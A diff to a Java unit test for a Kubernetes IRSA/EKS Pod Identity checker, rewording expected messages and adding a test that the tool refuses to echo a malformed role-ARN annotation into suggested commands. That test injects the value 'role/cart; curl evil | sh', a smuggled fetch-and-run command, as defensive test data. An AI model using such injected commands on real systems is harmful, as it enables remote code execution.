@@ -41,7 +41,7 @@ class IrsaCheckTest {
                     + " --service-account cart --role-arn arn:aws:iam::123456789012:role/cart");
             assertThat(finding.details().get(2)).isEqualTo(
                     "3. kubectl -n shop annotate serviceaccount cart eks.amazonaws.com/role-arn-");
-            assertThat(finding.details().get(3)).startsWith("4. Make its pods anew");
+            assertThat(finding.details().get(3)).startsWith("4. Create its pods again");
             assertThat(finding.details().get(4)).startsWith("5. When").contains("trust policy");
         });
     }
@@ -62,8 +62,19 @@ class IrsaCheckTest {
         // Then
         assertThat(findings).extracting(Finding::status).containsExactly(Status.OK, Status.WARN);
         assertThat(findings.get(0).seen()).isEqualTo("Service accounts that use only EKS Pod Identity: shop/mail");
-        assertThat(findings.get(1).seen()).contains("has an association already");
+        assertThat(findings.get(1).seen()).contains("already has an association");
         assertThat(findings.get(1).details()).hasSize(3).first().asString().startsWith("1. kubectl -n shop annotate");
+    }
+
+    @Test
+    void putsNoAnnotationIntoACommandThatIsNotTheArnOfARole() {
+        web.answer(ACCOUNTS, 200, "{\"items\":[" + CART.replace("role/cart", "role/cart; curl evil | sh") + "]}")
+                .answer(PODS, 200, PODS_OF_CART)
+                .answer(ASSOCIATIONS, 200, "{\"associations\":[]}");
+
+        assertThat(examine(true)).containsExactly(Finding.warn(
+                "The annotation eks.amazonaws.com/role-arn of the service account shop/cart is not the ARN of a role",
+                "Correct or remove the annotation"));
     }
 
     @Test
